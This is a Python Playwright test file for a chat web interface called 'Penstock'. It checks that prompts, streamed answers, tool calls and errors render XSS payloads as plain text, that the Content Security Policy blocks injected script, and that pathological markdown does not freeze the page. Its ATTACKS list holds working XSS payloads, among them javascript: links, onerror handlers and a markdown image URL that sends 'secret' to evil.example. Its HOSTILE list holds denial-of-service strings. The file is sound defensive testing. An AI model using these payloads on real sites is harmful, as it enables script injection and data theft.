"""What a prompt or an answer can't do: run a script, send a request, leave the page, or freeze it."""

from __future__ import annotations

import json
import urllib.request

import pytest
from playwright.sync_api import Route, expect

from tests.browser.chat import Chat
from tests.browser.place import Place, cue

ATTACKS = [
    "<script>document.title='owned'</script>",
    "<img src=x onerror=\"document.title='owned'\">",
    "<svg onload=\"document.title='owned'\"><a href=\"javascript:document.title='owned'\"><text>x</text></a></svg>",
    "<iframe srcdoc=\"<script>parent.document.title='owned'</script>\"></iframe>",
    '<picture><source srcset="https://evil.example/p.png"><img src="https://evil.example/q.png"></picture>',
    '<link rel=stylesheet href="https://evil.example/x.css"><style>@import "https://evil.example/y.css"</style>',
    '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example/">',
    "![exfiltrate](https://evil.example/?q=secret)",
    "[![nested](https://evil.example/a.png)](https://evil.example/b)",
    "[click](javascript:document.title='owned')",
    "[click](JaVaScRiPt:document.title='owned') [tab](java\tscript:alert(1)) [entity](&#106;avascript:alert(1))",
    "[data](data:text/html,<script>document.title='owned'</script>) [vb](vbscript:x) [file](file:///etc/passwd)",
    "[ref]: https://evil.example/\n![ref][ref] [ref]",
    "<https://evil.example/\"onmouseover=\"document.title='owned'>",
    "https://evil.example/\"onmouseover=\"document.title='owned'",
    '[a](https://evil.example "t" onclick="document.title=\'owned\'")',
    "``` \"><script>document.title='owned'</script>\ncode\n```",
    "| <img src=x onerror=\"document.title='owned'\"> |\n| --- |\n| <script>document.title='owned'</script> |",
    "`<script>document.title='owned'</script>` **<img src=x onerror=alert(1)>**",
    "__proto__ constructor toString ${document.title='owned'} {{constructor.constructor('alert(1)')()}}",
]


WATCH = """() => {
  const forbidden = "script, img, iframe, object, embed, svg:not(.icon):not(.mark), link, style, base, meta, picture, source, video, audio";
  window.found = [];
  const look = () => {
    const thread = document.querySelector(".turns");
    for (const node of thread.querySelectorAll(forbidden)) window.found.push(node.outerHTML);
    for (const link of thread.querySelectorAll("a")) {
      if (!/^https?:$/.test(link.protocol) || !link.rel.includes("noopener")) window.found.push(link.outerHTML);
    }
    for (const node of thread.querySelectorAll(".answer *, .said > p *")) {
      for (const name of node.getAttributeNames()) if (/^on|^src/.test(name)) window.found.push(node.outerHTML);
    }
  };
  look();
  new MutationObserver(look).observe(document.querySelector(".turns"), { childList: true, subtree: true, attributes: true });
}"""  # noqa: E501


def harmless(chat: Chat) -> None:
    """At no moment did the page hold anything that loads, runs or submits, or a link but to http(s) addresses.

    That no stranger was asked for anything, and no script failed at the policy, the fixture looks for in the end.
    """
    assert chat.page.evaluate("window.found") == []
    assert chat.page.title() != "owned"


@pytest.mark.parametrize("size", [1, 3, 1000])
def test_attacks_in_an_answer_stay_words(chat: Chat, place: Place, size: int) -> None:
    """In pieces of any size: every beginning is on the page for a moment."""
    chat.page.evaluate(WATCH)
    text = "\n\n".join([*ATTACKS, "The end."])
    call = {"name": "tool", "arguments": ATTACKS[1]}
    said = cue(text=text, token_size=size, reasoning=ATTACKS[1], tool_calls=[call], pace=0.001 if size < 10 else 0.1)
    chat.asks(f"attack in {size} {said}")
    chat.sees("^(complete|wants a tool)$")
    chat.reads_until("The end.")
    expect(chat.turn.locator(".call pre")).to_have_text(ATTACKS[1])
    harmless(chat)
    assert place.truth(f"attack in {size} ").text[0] == text
    chat.reloads()
    chat.turn.locator(".thinking summary").click()
    chat.page.evaluate(WATCH)
    harmless(chat)


def test_attacks_in_a_prompt_and_a_title_stay_words(chat: Chat) -> None:
    chat.page.evaluate(WATCH)
    chat.asks(f"{ATTACKS[1]} " + "\n".join(ATTACKS))
    chat.sees_the_end()
    harmless(chat)
    expect(chat.said).to_contain_text("<script>document.title='owned'</script>")
    expect(chat.page.get_by_role("heading", level=1)).to_contain_text("<img src=x")
    expect(chat.entry("<img src=x").first).to_be_visible()
    expect(chat.page.locator(".sidebar img")).to_have_count(0)


def test_attacks_in_an_error_stay_words(chat: Chat) -> None:
    told = json.dumps({"error": {"code": ATTACKS[0], "message": ATTACKS[1], "retryable": False}})
    chat.page.route("**/answers", lambda route: route.fulfill(status=400, body=told))
    chat.page.evaluate(WATCH)
    chat.asks("attack me")
    expect(chat.trouble).to_contain_text("<img src=x")
    harmless(chat)


def test_an_attack_would_be_seen(chat: Chat) -> None:
    chat.page.evaluate(WATCH)
    html = "<div class=answer><img alt=x><a href=javascript:x>x</a></div>"
    chat.page.evaluate("(html) => document.querySelector('.turns').insertAdjacentHTML('beforeend', html)", html)
    assert len(chat.page.evaluate("window.found")) >= 2


def test_the_policy_stops_what_would_get_through(chat: Chat) -> None:
    chat.page.evaluate(
        """() => {
          document.body.insertAdjacentHTML("beforeend", `<img src=x onerror="document.title='owned'">`);
          const script = document.createElement("script");
          script.textContent = "document.title = 'owned'";
          document.body.append(script);
        }"""
    )
    chat.waits(lambda: len(chat.complaints), 2)
    assert chat.page.title() == "Penstock"
    assert all("Content Security Policy" in complaint for complaint in chat.complaints)
    chat.complaints.clear()


HOSTILE = [
    "*" * 20_000,
    "*a " * 7_000,
    "`` `" * 5_000,
    "[" * 20_000,
    "[a](" * 5_000,
    "> " * 8_000 + "a",
    "- " * 8_000 + "a",
    "**a __b " * 3_000,
    "|a" * 5_000 + "\n" + "|-" * 5_000 + "\n",
    "https://" * 3_000,
    "a" * 200_000,
]


@pytest.mark.parametrize("number", range(len(HOSTILE)))
def test_a_hostile_answer_does_not_freeze_the_page(chat: Chat, number: int) -> None:
    # The suite's own time limit is the deadline: what is quadratic in here takes minutes.
    text = HOSTILE[number]
    blocks = [f"id: abcdef:1\nevent: start\ndata: {json.dumps({'stream': 'abc', 'model': 'brook'})}\n\n"]
    pieces = [text[at : at + 2_000] for at in range(0, len(text), 2_000)]
    for at, piece in enumerate(pieces, 2):
        blocks.append(f"id: abcdef:{at}\nevent: token\ndata: {json.dumps({'text': piece})}\n\n")
    blocks.append(f"id: abcdef:{len(pieces) + 2}\nevent: done\ndata: {json.dumps({'outcome': 'completed'})}\n\n")

    def answer(route: Route) -> None:
        headers = {"content-type": "text/event-stream", "penstock-stream-id": "abc"}
        route.fulfill(headers=headers, body="".join(blocks))

    chat.page.route("**/answers", answer)
    chat.asks("be hostile")
    chat.sees_the_end()
    assert chat.answer.inner_html()


@pytest.mark.parametrize("path", ["/", "/c/0123456789abcdef", "/favicon.svg"])
def test_the_policy_comes_with_every_file(place: Place, path: str) -> None:
    with urllib.request.urlopen(f"{place.url}{path}", timeout=30) as response:
        policy = response.headers["content-security-policy"]
        assert response.headers["x-content-type-options"] == "nosniff"
    assert "default-src 'none'" in policy
    assert "script-src 'self'" in policy
    assert "unsafe" not in policy
